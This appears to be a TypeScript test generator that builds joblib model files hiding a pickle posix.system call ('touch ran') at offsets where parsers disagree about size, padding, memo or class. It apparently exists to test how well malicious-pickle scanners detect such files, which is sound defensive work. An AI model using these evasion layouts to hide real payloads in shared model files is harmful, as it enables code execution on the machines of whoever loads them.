/** Makes joblib files that hide a call from whoever reads another size, padding, memo or class than the loader does. See https://github.com/joblib/joblib/blob/main/joblib/numpy_pickle.py. */
import { bytes, op } from '../support/assembler.ts';
import { Random } from './random.ts';

const WRAPPERS: readonly (readonly [module: string, name: string])[] = [
  ['joblib.numpy_pickle', 'NumpyArrayWrapper'],
  ['joblib.numpy_pickle', 'NumpyArrayWrapper'],
  ['joblib.numpy_pickle', 'NumpyArrayWrapper'],
  ['joblib', 'numpy_pickle.NumpyArrayWrapper'],
  ['sklearn.utils._joblib', 'joblib.numpy_pickle.NumpyArrayWrapper'],
  ['joblib.numpy_pickle', 'numpy_pickle_utils.pickle.Unpickler'],
];
const CODES = ['f8', 'u1', 'i2', 'S1', 'S7', 'U1', 'V1', 'V8', 'O8', 'c16', 'M8', 'b1'];
const SIZES: Readonly<Record<string, number>> = { U1: 4, S7: 7, V8: 8, f8: 8, i2: 2, O8: 8, c16: 16, M8: 8 };

const text = (value: string) => op.SHORT_BINUNICODE(value);
const global = (module: string, name: string) => bytes(text(module), text(name), op.STACK_GLOBAL);
const integer = (value: number) => {
  const written = Buffer.alloc(5);
  written[0] = 0x4a;
  written.writeInt32LE(value, 1);
  return written;
};

/** What is known of the array when its bytes are laid out. */
interface Plan {
  readonly code: string;
  readonly count: number;
  /** What the state says. */
  readonly itemBytes: number;
  readonly flags: number;
  readonly hasFields: boolean;
  readonly isAligned: boolean;
}

/** One file; `seed` decides everything. It calls `posix.system` in some loader, or in none. */
export function makeJoblibFile(seed: number): Uint8Array {
  const random = new Random(seed);
  const plan = makePlan(random);
  const memo = random.chance(50) ? bytes(memoized('collections'), memoized('OrderedDict')) : bytes();
  const before = bytes(op.PROTO(random.chance(80) ? 4 : 5), memo, wrapper(random, plan));
  return bytes(before, raw(random, plan), op.STOP);
}

function memoized(word: string): Uint8Array {
  return bytes(text(word), op.MEMOIZE, op.POP);
}

function makePlan(random: Random): Plan {
  const code = random.pick(CODES);
  const size = SIZES[code] ?? 1;
  const itemBytes = random.chance(50) ? size : random.pick([0, 1, size + 1, 40, 64, 100]);
  const hasFields = code.startsWith('V') && random.chance(50);
  const hasObjects = code === 'O8' || hasFields;
  return {
    code,
    count: random.pick([0, 1, 1, 2, 3, 16, 64]),
    itemBytes,
    flags: random.chance(75) === hasObjects ? 63 : 0,
    hasFields,
    isAligned: random.chance(40),
  };
}

function dtypeOf(random: Random, plan: Plan): Uint8Array {
  const spec = random.chance(5) ? op.GLOBAL('numpy', 'record') : text(plan.code);
  const made = bytes(op.GLOBAL('numpy', 'dtype'), spec, op.NEWTRUE, op.NEWTRUE, op.TUPLE3, op.REDUCE);
  const isFixed = !/^[SUV]/.test(plan.code);
  const size = isFixed && random.chance(85) ? -1 : plan.itemBytes;
  const objects = bytes(op.GLOBAL('numpy', 'dtype'), text(random.pick(['O8', 'O8', 'f8'])), op.TUPLE1, op.REDUCE);
  const names = plan.hasFields ? bytes(text('a'), op.TUPLE1) : op.NONE;
  const fields = plan.hasFields
    ? bytes(op.EMPTY_DICT, text('a'), objects, op.BININT1(0), op.TUPLE2, op.SETITEM)
    : op.NONE;
  const state = bytes(
    bytes(op.MARK, op.BININT1(3), text('|'), op.NONE, names, fields),
    bytes(integer(size), integer(1), integer(plan.flags), op.TUPLE),
  );
  const built = bytes(state, op.BUILD);
  return bytes(made, random.chance(90) ? built : bytes(), random.chance(10) ? built : bytes());
}

function wrapper(random: Random, plan: Plan): Uint8Array {
  const [module, name] = random.pick(WRAPPERS);
  const dtype = dtypeOf(random, plan);
  const shape = random.chance(80)
    ? bytes(integer(plan.count), op.TUPLE1)
    : bytes(integer(plan.count), integer(1), op.TUPLE2);
  const alignment = plan.isAligned
    ? bytes(text('numpy_array_alignment_bytes'), op.BININT1(16))
    : random.chance(20)
      ? bytes(text('numpy_array_alignment_bytes'), op.NONE)
      : bytes();
  const state = bytes(
    bytes(op.EMPTY_DICT, op.MARK, text('subclass'), op.GLOBAL('numpy', 'ndarray'), text('shape'), shape),
    bytes(text('order'), text('C'), text('dtype'), dtype, text('allow_mmap'), op.NEWTRUE, alignment, op.SETITEMS),
  );
  const made =
    random.chance(90) || plan.code === 'O8'
      ? bytes(global(module, name), op.EMPTY_TUPLE, op.NEWOBJ)
      : bytes(
          global('copyreg', '_reconstructor'),
          global(module, name),
          global('builtins', 'object'),
          op.NONE,
          op.TUPLE3,
          op.REDUCE,
        );
  const twice = random.chance(10) ? bytes(op.BINPUT(99), op.EMPTY_DICT, op.BUILD, op.BINGET(99)) : bytes();
  return bytes(made, twice, state, op.BUILD);
}

/** Where some reader or other goes on behind the wrapper. */
function places(random: Random, { code, count, itemBytes }: Plan, padding: number): number[] {
  const size = SIZES[code] ?? 1;
  return [0, count, count * size, count * itemBytes, 1 + padding, 1 + padding + count * size]
    .concat([1 + padding + count * itemBytes, random.below(40)])
    .filter((place) => place < 5000);
}

/** The call at one of these places; at others what leads past it. */
function raw(random: Random, plan: Plan): Uint8Array {
  const padding = random.below(30);
  const all = places(random, plan, padding);
  const target = random.pick(all);
  const call = evil(random);
  const out = Buffer.alloc(Math.max(...all, target) + call.length + 64, random.pick([0, 0xff, 0x4e, 0x30, 0x29]));
  if (plan.isAligned || random.chance(30)) out[0] = padding;
  const end = target + call.length + random.below(20);
  for (const place of all) {
    if (place >= target || target - place < 5 || random.chance(30)) continue;
    out[place] = 0x42;
    out.writeUInt32LE(Math.max(0, end - place - 5), place + 1);
  }
  out.set(call, target);
  out[end] = 0x2e;
  return out.subarray(0, Math.max(end + 1, random.chance(50) ? out.length : 0));
}

function evil(random: Random): Uint8Array {
  const arg = bytes(text('touch ran'), op.TUPLE1, op.REDUCE);
  switch (random.below(4)) {
    case 0:
      return bytes(op.PROTO(4), global('posix', 'system'), arg, op.STOP);
    case 1:
      return bytes(op.GLOBAL('posix', 'system'), '(Vtouch ran\ntR.');
    case 2:
      return bytes(memoized('posix'), memoized('system'), op.BINGET(0), op.BINGET(1), op.STACK_GLOBAL, arg, op.STOP);
    default:
      return bytes(op.POP, global('posix', 'system'), arg, op.STOP);
  }
}
